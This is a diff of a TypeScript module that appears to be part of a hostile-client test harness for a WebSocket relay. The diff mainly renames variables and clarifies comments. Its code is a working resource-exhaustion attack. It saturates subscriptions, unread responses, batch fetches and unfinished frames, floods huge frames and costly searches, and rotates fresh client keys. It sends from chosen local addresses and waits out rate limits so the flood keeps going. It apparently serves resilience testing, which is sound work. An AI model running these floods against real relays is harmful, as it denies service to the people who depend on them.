@@ -23,28 +23,31 @@ import {
 } from './hostileClient.ts'
 
 /**
- * Uses up every limit at the same time and keeps it used up: stored messages, subscriptions, unread responses, waiting fetches and
- * unfinished frames. In addition, it sends the longest frames and searches.
+ * Uses up all limits at the same time, until the attack is over: stored messages, subscriptions, unread responses, waiting fetches and
+ * unfinished frames. In addition, the attack sends the longest frames and searches for wallets.
  *
- * @param fillingKeys - The number of new keys that store as many of the shortest messages as allowed. A relay without a file holds these in
- * memory.
+ * @param fillingKeys - The number of new client keys that store as many very short messages as the limits allow. A relay without a data
+ * folder has these messages in memory.
  */
 export async function stack(target: Target, fillingKeys: number): Promise<void> {
   await requestImage(target)
   await Promise.all(Array.from({ length: fillingKeys }, () => fill(target)))
   const sockets = [...(await subscribeAll(target)), ...(await leaveUnread(target))]
-  const giant = badIds(255 * kib)
-  const giants = async () => {
+  const giantFrame = badIds(255 * kib)
+  const sendGiantFrames = async () => {
     await rest(target, 8_000)
-    await Promise.all([flood(target, () => giant), search(target, longInclude)])
+    await Promise.all([flood(target, () => giantFrame), search(target, longInclude)])
   }
-  await Promise.all([fetchMany(target), leaveUnfinished(target), giants()])
+  await Promise.all([fetchMany(target), leaveUnfinished(target), sendGiantFrames()])
   for (const socket of sockets) socket.terminate()
 }
 
-/** Uses up every limit while new keys come and go. Then eight keys send the most expensive long frames that the relay parses. */
+/**
+ * Uses up all limits while new client keys connect and disconnect. Eight more keys send the long frames that take the relay the most work
+ * to parse.
+ */
 export async function stackLong(target: Target, fillingKeys: number): Promise<void> {
-  const longs = async () => {
+  const sendLongFrames = async () => {
     await rest(target, 14_000)
     if (target.isOver()) return
     const frames = Array.from({ length: 64 }, () => {
@@ -58,40 +61,44 @@ export async function stackLong(target: Target, fillingKeys: number): Promise<vo
     }
     await Promise.all(Array.from({ length: 8 }, () => flood(target, next)))
   }
-  await Promise.all([stack(target, fillingKeys), comeAndGo(target), longs()])
+  await Promise.all([stack(target, fillingKeys), comeAndGo(target), sendLongFrames()])
 }
 
-/** Uses up the subscriptions and unread responses, and then sends wide frames whose messages wait to be stored. */
+/**
+ * Uses up the limits of subscriptions and unread responses. Then sends frames with thousands of new keys, whose messages wait to be stored.
+ */
 export async function stackWide(target: Target): Promise<void> {
   await requestImage(target)
   const sockets = [...(await subscribeAll(target)), ...(await leaveUnread(target))]
-  const wides = async () => {
-    // The bytes of its address are used up. They refill in this time.
+  const sendWideFrames = async () => {
+    // The attack has used up the byte limit of its address. The limit refills during this wait.
     await rest(target, 16_000)
     await publishWide(target)
   }
-  await Promise.all([comeAndGo(target), wides()])
+  await Promise.all([comeAndGo(target), sendWideFrames()])
   for (const socket of sockets) socket.terminate()
 }
 
-/** Requests an image, because the server loads its image collection with the first such request. */
+/** Requests an image, because the server loads the metadata of its images into memory with the first such request. */
 function requestImage({ relayUrl, from }: Target): Promise<void> {
   const { hostname: host, port } = new URL(relayUrl)
   const path = '/public/getTokenImage/ETH?projectId=test'
   return new Promise((resolve) => {
-    const asking = get({ host, port, path, localAddress: from }, (answer) => answer.resume().on('close', resolve))
-    asking.on('error', () => resolve())
+    const clientRequest = get({ host, port, path, localAddress: from }, (response) =>
+      response.resume().on('close', resolve),
+    )
+    clientRequest.on('error', () => resolve())
   })
 }
 
-/** Sends a request until it has succeeded `count` times, or until the relay refuses it for another reason than the rate. */
+/** Repeats a request until it has succeeded `count` times, or until the relay refuses it for another reason than its rate limit. */
 async function repeat(target: Target, socket: WebSocket, { count, frame }: { count: number; frame: () => string }) {
   for (let done = 0; done < count && !target.isOver() && socket.readyState === WebSocket.OPEN; ) {
     socket.send(frame())
     target.seen.sent += 1
-    const answer = await answered(socket)
-    if (answer.includes('"result"')) done += 1
-    else if (answer.includes('slow down')) await rest(target, 500)
+    const response = await answered(socket)
+    if (response.includes('"result"')) done += 1
+    else if (response.includes('slow down')) await rest(target, 500)
     else return
   }
 }
@@ -111,7 +118,7 @@ async function subscribeAll(target: Target): Promise<readonly WebSocket[]> {
   return sockets
 }
 
-/** Many keys request long messages and do not read the responses. */
+/** Many client keys request long messages and do not read the responses. */
 async function leaveUnread(target: Target): Promise<readonly WebSocket[]> {
   const first = await enter(target)
   for (let number = 0; number < 30; number += 1) first?.send(publish(`${number} ${'x'.repeat(45_000)}`))
@@ -127,7 +134,7 @@ async function leaveUnread(target: Target): Promise<readonly WebSocket[]> {
   return sockets
 }
 
-/** Sends batch fetches with the maximum number of topics. These wait in the relay's queue. */
+/** Sends batch fetches with the maximum number of topics. The fetches wait in the relay's queue and take memory. */
 async function fetchMany(target: Target) {
   while (!target.isOver()) {
     const sockets = await gather(target, 20)
@@ -142,7 +149,7 @@ async function fetchMany(target: Target) {
   }
 }
 
-/** Connects with new keys. The relay keeps the budgets of each until its next sweep. */
+/** Connects and disconnects with new client keys. The relay stores an account for each key until its next sweep. */
 async function comeAndGo(target: Target) {
   while (!target.isOver()) {
     const entered = await Promise.all(Array.from({ length: 6 }, () => enter(target)))
